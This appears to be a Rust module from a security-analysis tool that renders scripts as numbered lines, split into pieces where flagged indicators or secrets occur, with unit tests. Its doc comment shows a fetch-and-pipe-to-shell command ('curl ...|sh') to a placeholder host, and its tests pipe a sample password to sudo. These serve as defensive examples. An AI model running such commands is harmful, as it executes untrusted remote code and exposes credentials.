//! A text as it is shown: lines with numbers, cut into pieces where an indicator or a secret begins or ends.
//!
//! ```text
//! 3  curl http://192.0.2.1/i|sh      one piece with hit 0
//! 4  echo ••••• | sudo -S id         three pieces, the middle one secret
//! ```
//!
//! Rejected: offsets for the page to apply. It counts in UTF-16 and the core in bytes; one script with an umlaut, and the wrong word is marked.

use crate::script::secrets;
use serde::Serialize;
use std::ops::Range;

/// Bytes of one text that are shown; the evidence has them all.
pub const SHOWN_BYTES: usize = 64 << 10;
/// Lines of one text that are shown.
const SHOWN_LINES: usize = 2_000;
/// Marks of one text that are shown.
const SHOWN_MARKS: usize = 1_000;

/// A piece of a line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Piece {
    /// Its text.
    pub text: String,
    /// Whether it is a secret.
    pub secret: bool,
    /// Indicators that it belongs to, by position among those of the script.
    pub hits: Vec<usize>,
}

/// A line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Line {
    /// From 1.
    pub number: usize,
    /// In order.
    pub pieces: Vec<Piece>,
}

/// A text ready to be drawn.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ShownText {
    /// Its lines.
    pub lines: Vec<Line>,
    /// Bytes of all of it.
    pub bytes: usize,
    /// Whether lines were left out.
    pub cut: bool,
    /// How many secrets are in what is shown.
    pub secrets: usize,
}

/// A text with these places marked.
#[must_use]
pub fn shown(text: &str, marks: &[(usize, Range<usize>)]) -> ShownText {
    let head = text
        .get(..text.floor_char_boundary(SHOWN_BYTES.min(text.len())))
        .unwrap_or("");
    let secret = secrets::find(head);
    // (byte, place of the mark or none for a secret, begins)
    let mut edges: Vec<(usize, Option<usize>, bool)> = Vec::new();
    for (hit, range) in marks.iter().take(SHOWN_MARKS) {
        let end = range.end.min(head.len());
        if range.start < end {
            edges.extend([(range.start, Some(*hit), true), (end, Some(*hit), false)]);
        }
    }
    for range in &secret {
        edges.extend([(range.start, None, true), (range.end, None, false)]);
    }
    edges.sort_unstable();
    let mut state = State::default();
    let mut edges = edges.into_iter().peekable();
    let mut lines = Vec::new();
    let mut at = 0;
    let mut cut = head.len() < text.len();
    for (number, whole) in head.split_inclusive('\n').enumerate() {
        if number >= SHOWN_LINES {
            cut = true;
            break;
        }
        let line = whole.trim_end_matches(['\n', '\r']);
        let (end, next) = (at + line.len(), at + whole.len());
        let mut pieces = Vec::new();
        let mut from = at;
        while let Some((place, hit, begins)) = edges.next_if(|(place, ..)| *place < next) {
            let place = head.floor_char_boundary(place.clamp(from, end));
            state.piece(&mut pieces, head.get(from..place));
            from = place;
            state.take(hit, begins);
        }
        state.piece(&mut pieces, head.get(from..end));
        lines.push(Line {
            number: number + 1,
            pieces,
        });
        at = next;
    }
    ShownText {
        lines,
        bytes: text.len(),
        cut,
        secrets: secret.len(),
    }
}

/// What a place of the text is inside of.
#[derive(Default)]
struct State {
    secrets: usize,
    hits: Vec<usize>,
}

impl State {
    fn take(&mut self, hit: Option<usize>, begins: bool) {
        match (hit, begins) {
            (None, true) => self.secrets += 1,
            (None, false) => self.secrets = self.secrets.saturating_sub(1),
            (Some(hit), true) => self.hits.push(hit),
            (Some(hit), false) => {
                if let Some(at) = self.hits.iter().position(|have| *have == hit) {
                    self.hits.remove(at);
                }
            }
        }
    }

    fn piece(&self, pieces: &mut Vec<Piece>, text: Option<&str>) {
        let Some(text) = text.filter(|text| !text.is_empty()) else {
            return;
        };
        // Twelve names of one word are read by nobody.
        let hits = self.hits.iter().take(12).copied();
        pieces.push(Piece {
            text: text.to_owned(),
            secret: self.secrets > 0,
            hits: hits.collect(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(shown: &ShownText) -> Vec<Vec<(&str, bool, &[usize])>> {
        shown
            .lines
            .iter()
            .map(|line| {
                let pieces = line.pieces.iter();
                pieces
                    .map(|piece| (piece.text.as_str(), piece.secret, piece.hits.as_slice()))
                    .collect()
            })
            .collect()
    }

    #[test]
    fn marks_and_secrets_cut_lines_into_pieces() {
        let text = "id\r\necho hunter2 | sudo -S id\nwhoami";
        let marks = [(0, 0..2), (1, 4..20), (2, 9..40)];
        let found = shown(text, &marks);
        assert_eq!(
            all(&found),
            [
                vec![("id", false, &[0][..])],
                vec![
                    ("echo ", false, &[1][..]),
                    ("hunter2", true, &[1, 2][..]),
                    (" | s", false, &[1, 2][..]),
                    ("udo -S id", false, &[2][..]),
                ],
                vec![("whoami", false, &[2][..])],
            ]
        );
        assert_eq!((found.secrets, found.cut), (1, false));
    }

    #[test]
    fn every_letter_that_is_shown_is_in_one_piece() {
        let text = "ä\n\n  Пароль=\"geheim99\" ü\n".repeat(4_000);
        let found = shown(&text, &[(7, 0..text.len())]);
        assert!(found.cut && found.lines.len() <= SHOWN_LINES);
        let again: String = found
            .lines
            .iter()
            .flat_map(|line| {
                let pieces = line.pieces.iter().map(|piece| piece.text.as_str());
                pieces.chain(["\n"]).collect::<Vec<_>>()
            })
            .collect();
        assert!(text.starts_with(&again));
    }
}
